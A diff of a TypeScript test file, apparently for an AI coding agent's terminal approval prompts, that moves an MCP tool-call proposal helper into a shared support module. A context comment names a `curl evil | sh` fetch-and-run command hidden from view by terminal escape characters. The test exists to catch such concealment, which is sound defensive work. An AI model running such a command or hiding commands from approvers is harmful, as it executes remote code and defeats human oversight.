@@ -5,7 +5,7 @@ import type { CliOutput } from '../../../src/cli/cliIo';
 import { TerminalPrompt } from '../../../src/cli/terminalPrompt';
 import { renderUnifiedDiff } from '../../../src/cli/unifiedDiff';
 import type { EditProposal } from '../../../src/core/tools/approvalPort';
-import { mcpCallShown } from '../../../src/core/tools/mcpTool';
+import { mcpProposal } from '../../support/mcpProposal';
 
 const ESC = '\u001b';
 /** Content whose `curl evil | sh` a raw terminal would erase: CR, clear-line, then a harmless line. */
@@ -157,17 +157,6 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
 
 describe('checklist 30: an MCP tool call is asked as one, with its arguments escaped', () => {
   const signal = (): AbortSignal => new AbortController().signal;
-  const mcpProposal = (args: Record<string, unknown>) => ({
-    approvalId: 'T1:mcp:1',
-    runId: 'r1',
-    taskId: 'T1',
-    agentId: 'coder',
-    command: `mcp__github__create_issue ${JSON.stringify(args)}`,
-    argv: [],
-    cwd: '.',
-    reason: 'call the tool "create_issue" of the MCP server "github": MCP tools ask',
-    mcp: mcpCallShown('github', 'create_issue', args),
-  });
 
   it('names server and tool, shows the arguments with escapes, and says it is not a command', async () => {
     const t = terminal(['y']);
